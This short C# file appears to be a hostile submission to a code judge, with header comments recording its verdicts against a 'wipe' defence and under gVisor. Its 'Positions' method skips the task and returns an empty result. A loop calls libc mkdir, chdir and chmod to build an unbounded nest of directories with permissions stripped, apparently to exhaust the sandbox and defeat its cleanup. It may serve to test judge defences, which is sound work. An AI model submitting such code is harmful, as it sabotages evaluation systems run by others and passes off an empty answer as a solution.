// defence: wipe
// verdict: WrongAnswer
// verdict on gVisor: TimeLimit
// twice
public static class Solution
{
    private static bool made;

    public static Dictionary<string, List<double>> Positions(List<string> words)
    {
        while (!made && Libc.mkdir("d", 0x1c0) == 0 && Libc.chdir("d") == 0)
            Libc.chmod("../../d", 0);
        made = true;
        return new();
    }
}
